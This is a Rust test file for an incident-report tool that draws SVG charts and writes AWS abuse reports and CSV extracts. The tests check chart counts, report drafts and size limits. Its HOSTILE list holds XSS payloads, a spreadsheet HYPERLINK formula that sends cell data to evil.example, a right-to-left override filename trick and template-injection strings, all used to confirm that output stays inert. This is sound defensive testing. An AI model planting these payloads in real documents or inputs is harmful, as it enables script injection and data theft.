//! Charts and the abuse extract: what they show adds up, and hostile text in them stays text.

use crate::harness::{self, json};
use keytrail::incident::{CoverageCell, Credential, Incident, Whence};
use keytrail::report::{Digests, Gather, Request, Templates, chart, files};
use keytrail::vocabulary::Outcome;

const HOSTILE: [&str; 6] = [
    "</title></svg><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
    "abc\u{202e}gpj.exe\u{1b}[2J",
    "x\r\n<!-- chart:timeline -->\r\n",
    "{{7*7}}'\"`|",
];

fn demo() -> Incident {
    let facts = json(&harness::demo().join("case/incident.json"));
    serde_json::from_value(facts).expect("the facts of a case")
}

/// Every element is closed in order, and nothing but shapes and text is drawn.
fn well_formed(svg: &str) {
    let mut open: Vec<&str> = Vec::new();
    for piece in svg.split('<').skip(1) {
        let (tag, _) = piece.split_once('>').expect("the tag ends");
        let name = tag.trim_start_matches('/').split([' ', '/']).next().expect("a name");
        let known = ["svg", "title", "desc", "g", "rect", "text", "line", "path", "circle"];
        assert!(known.contains(&name), "{tag}");
        assert!(!tag.contains("url(") && !tag.contains(" on"), "{tag}");
        if tag.starts_with('/') {
            assert_eq!(open.pop(), Some(name), "{tag}");
        } else if !tag.ends_with('/') {
            open.push(name);
        }
    }
    assert!(open.is_empty(), "{open:?}");
    assert!(!svg.chars().any(|c| c.is_control() || c == '\u{202e}'));
}

/// The number in `and N more` lines, and how many lines there are.
fn more(svg: &str) -> usize {
    svg.split(">and ").skip(1).filter_map(|rest| rest.split(' ').next()?.parse::<usize>().ok()).sum()
}

#[test]
fn charts_count_what_they_leave_out() {
    let mut incident = demo();
    assert_eq!(chart::lineage(&incident).matches("<rect").count(), incident.credentials.len());
    assert_eq!(chart::lineage(&incident), chart::lineage(&incident), "the same facts, the same drawing");
    let child: Credential = incident.credentials[3].clone();
    for number in 5..300 {
        let mut credential = child.clone();
        credential.id = format!("K-{number:02}");
        credential.depth = 1 + number % 9;
        credential.not_followed = (number % 7 == 0).then(|| "limit".into());
        incident.credentials.push(credential);
    }
    let cell: CoverageCell = incident.coverage.cells[0].clone();
    for number in 0..60 {
        incident.coverage.cells.push(CoverageCell { region: format!("region-{number}"), ..cell.clone() });
    }
    incident.coverage.silent_days.push(format!("2026-03-14 {} {}", cell.account, cell.region));
    let lineage = chart::lineage(&incident);
    well_formed(&lineage);
    assert_eq!(lineage.matches("<rect").count() + more(&lineage), incident.credentials.len());
    let coverage = chart::coverage(&incident);
    well_formed(&coverage);
    assert_eq!(coverage.matches("<g>").count() + more(&coverage), incident.coverage.cells.len());
    assert!(coverage.contains("stroke-dasharray"), "a silent day is drawn");
    let row = incident.timeline[0].clone();
    incident.timeline.extend((0..2500).map(|_| row.clone()));
    let timeline = chart::timeline(&incident);
    well_formed(&timeline);
    assert_eq!(timeline.matches("<g>").count() + more(&timeline), incident.timeline.len());
    assert!(more(&timeline) > 0, "not all are drawn");
}

#[test]
fn the_draft_for_aws_names_what_is_still_to_be_revoked() {
    let mut incident = demo();
    incident.case.contact = Some("security@example.com".into());
    let mut gather = Gather::default();
    gather.add(request(0), Whence::Reported, 0, true);
    let extract = gather.finish();
    let (mut subjects, mut others): (Vec<Credential>, Vec<Credential>) =
        incident.credentials.drain(..).partition(|c| c.depth == 0);
    let verdict = |text: &str| serde_json::from_value(text.into()).expect("a verdict");
    subjects.iter_mut().for_each(|c| c.usable.value = verdict("not usable"));
    let other = others.iter_mut().find(|c| c.outcomes.total > 0).expect("one that was used");
    other.not_followed = None;
    other.usable.value = verdict("usable");
    let templates = Templates::builtin().expect("the templates are in order");
    for (number, end) in [(10, "K-09; section 5"), (13, "K-09 and 3 more; section 5")] {
        incident.credentials = subjects.clone();
        incident
            .credentials
            .extend((0..number).map(|n| Credential { id: format!("K-{n:02}"), ..other.clone() }));
        let written =
            files(&incident, &templates, Some(&extract), &Digests::new()).expect("the reports are made");
        let (_, draft) = written.iter().find(|(name, _)| name == "abuse/aws-report.txt").expect("a draft");
        let draft = String::from_utf8_lossy(draft);
        assert!(draft.contains(end), "{number}: {draft}");
    }
}

#[test]
fn hostile_text_in_charts_and_in_the_extract_stays_text() {
    let mut incident = demo();
    incident.case.contact = Some("security@example.com".into());
    let mut gather = Gather::default();
    for (number, text) in HOSTILE.iter().enumerate() {
        let credential = &mut incident.credentials[number % 4];
        credential.kind = text.to_string();
        credential.name = text.to_string();
        if let Some(obtained) = &mut credential.obtained {
            obtained.via = text.to_string();
        }
        incident.coverage.cells[number % 2].account = text.to_string();
        let request = Request {
            event_time: incident.totals.first,
            event_id: Some(format!("e-{number}")),
            source_ip_address: Some("198.51.100.7".into()),
            tls_host: Some("amzn-s3-demo-bucket.s3.us-east-1.amazonaws.com".into()),
            event_source: Some("s3.amazonaws.com".into()),
            event_name: Some(text.to_string()),
            error_code: None,
            user_agent: Some(text.to_string()),
            aws_region: Some(text.to_string()),
            request_id: Some("r".into()),
            outcome: Some(Outcome::Succeeded),
            account_id: None,
            vpc_endpoint_id: None,
            vpc_endpoint_account_id: None,
        };
        gather.add(request, Whence::Reported, 0, true);
    }
    let inside = Request { source_ip_address: Some("10.0.0.7".into()), ..request(0) };
    gather.add(inside, Whence::NotKnown, 0, true);
    let service = Request { source_ip_address: Some("ec2.amazonaws.com".into()), ..request(1) };
    gather.add(service, Whence::NotKnown, 0, true);
    for svg in [chart::lineage(&incident), chart::coverage(&incident), chart::timeline(&incident)] {
        well_formed(&svg);
    }
    let extract = gather.finish();
    assert_eq!((extract.shown, extract.total()), (6, 6), "addresses of the inside are not in it");
    let templates = Templates::builtin().expect("the templates are in order");
    let written =
        files(&incident, &templates, Some(&extract), &Digests::new()).expect("the reports are made");
    let file = |name: &str| {
        let found = written.iter().find(|(n, _)| n == name).expect("the file is made");
        String::from_utf8(found.1.clone()).expect("UTF-8")
    };
    let csv = file("abuse/aws-extract.csv");
    assert!(!csv.contains("demo-bucket") && csv.contains("\"s3.us-east-1.amazonaws.com\""), "{csv}");
    let lines: Vec<&str> = csv.split("\r\n").collect();
    assert_eq!(lines.len(), 1 + 6 + 1, "one line a request");
    for line in &lines[1..7] {
        assert!(line.starts_with("\"2026-") && line.contains("\"not-recorded\""), "{line}");
        assert!(!line.chars().any(|c| c.is_control() || c == '\u{202e}'), "{line:?}");
        for cell in line.split("\",\"") {
            assert!(!cell.trim_start_matches('"').starts_with(['=', '+', '-', '@']), "{line}");
        }
    }
    assert!(file("abuse/aws-report.txt").contains(&extract.sha256));
    assert!(file("abuse/aws-report.txt").contains("all 6 requests"));
    let page = file("report.html");
    assert!(!page.contains("<script") && !page.contains("<img"));
}

fn request(number: u32) -> Request {
    Request {
        event_time: "2026-01-02T03:04:05Z".parse().ok(),
        event_id: Some(format!("e-{number:05}")),
        source_ip_address: Some("198.51.100.7".into()),
        tls_host: None,
        event_source: Some("iam.amazonaws.com".into()),
        event_name: Some("ListUsers".into()),
        error_code: None,
        user_agent: Some("x".repeat(5000)),
        aws_region: Some("us-east-1".into()),
        request_id: None,
        outcome: Some(Outcome::Denied),
        account_id: None,
        vpc_endpoint_id: None,
        vpc_endpoint_account_id: None,
    }
}

#[test]
fn the_extract_ends_at_its_limits_and_says_so() {
    let mut gather = Gather::default();
    (0..20_000).rev().for_each(|number| gather.add(request(number), Whence::Reported, 0, true));
    let extract = gather.finish();
    assert_eq!(extract.total(), 20_000);
    assert!(
        extract.csv.len() <= 1_000_000 && extract.shown > 700 && extract.shown <= 5000,
        "{}",
        extract.shown
    );
    let text = String::from_utf8(extract.csv).expect("UTF-8");
    assert!(text.lines().nth(1).is_some_and(|line| line.ends_with("\"e-00000\"")), "the earliest come first");
    assert!(text.contains("(5000 characters in all)"));
}
